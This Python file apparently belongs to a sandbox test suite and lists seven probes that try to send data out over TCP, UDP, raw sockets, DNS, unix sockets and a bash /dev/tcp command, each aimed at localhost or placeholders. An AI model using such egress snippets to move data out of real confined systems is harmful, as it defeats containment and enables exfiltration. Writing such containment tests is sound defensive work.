"""Attacks that speak to the outside."""

from attacks.attack import Attack, harm


def _speaks(name: str, tries: str, code: str) -> Attack:
    return harm(
        name,
        tries,
        f"import os, socket\ntry:\n    {code}\nexcept Exception as e:\n    print(type(e))",
    )


ATTACKS = [
    _speaks(
        "tcp",
        "a TCP connection",
        "socket.create_connection(('127.0.0.1', TCP_PORT), 2).sendall(b'stolen')",
    ),
    _speaks(
        "udp",
        "a UDP packet",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', UDP_PORT))",
    ),
    _speaks(
        "raw",
        "a raw packet",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 17).sendto(bytes(64), ('127.0.0.1', 0)); print('GOT' 'CHA')",
    ),
    _speaks(
        "dns",
        "a question to a name server",
        "print(socket.getaddrinfo('localhost.localdomain.example', 80), 'GOT' 'CHA')",
    ),
    _speaks(
        "unix_socket",
        "a unix socket of another program",
        "s = socket.socket(socket.AF_UNIX); s.connect('UNIX_SOCKET'); s.sendall(b'stolen')",
    ),
    _speaks(
        "abstract_socket",
        "a unix socket without a file",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0ABSTRACT_SOCKET'); s.sendall(b'stolen')",
    ),
    _speaks(
        "by_another_program",
        "the same, by a shell",
        "os.system('bash -c \"exec 3<>/dev/tcp/127.0.0.1/TCP_PORT && echo stolen >&3\"')",
    ),
]
